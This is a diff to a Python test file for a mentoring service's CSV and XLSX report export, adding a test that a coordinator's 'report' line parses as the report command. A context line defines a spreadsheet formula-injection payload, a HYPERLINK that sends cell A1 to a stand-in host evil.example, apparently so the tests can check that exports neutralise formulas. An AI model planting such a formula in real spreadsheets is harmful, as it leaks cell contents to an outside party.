@@ -20,6 +20,7 @@ from service.coordinators.report_rules import (
     report_row,
 )
 from service.coordinators.spreadsheet import as_csv, as_xlsx
+from service.program.grammar import REPORT, Grammar, help_text, parse
 
 NOW = datetime(2027, 3, 10, 12, 0, tzinfo=UTC)
 HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
@@ -154,3 +155,10 @@ def test_text_an_xlsx_cannot_hold_or_would_read_as_an_error_stays_text() -> None
     cells = dict(zip(COLUMNS, load_workbook(io.BytesIO(data))["Pairings"][2], strict=True))
     assert cells["Mentor"].value == "Ana\ufffd Reyes"
     assert cells["Mentee"].value == "#N/A" and cells["Mentee"].data_type == "s"
+
+
+@pytest.mark.parametrize("line", ["report", "Report.", "- report"])
+def test_a_coordinator_asks_for_the_report_in_a_line_of_its_own(line: str) -> None:
+    assert parse(line, Grammar.COORDINATOR).commands[0].syntax is REPORT
+    assert parse(line).commands == []  # not a participant's command
+    assert "report" in [example for example, _ in help_text(Grammar.COORDINATOR, "coordinator")]
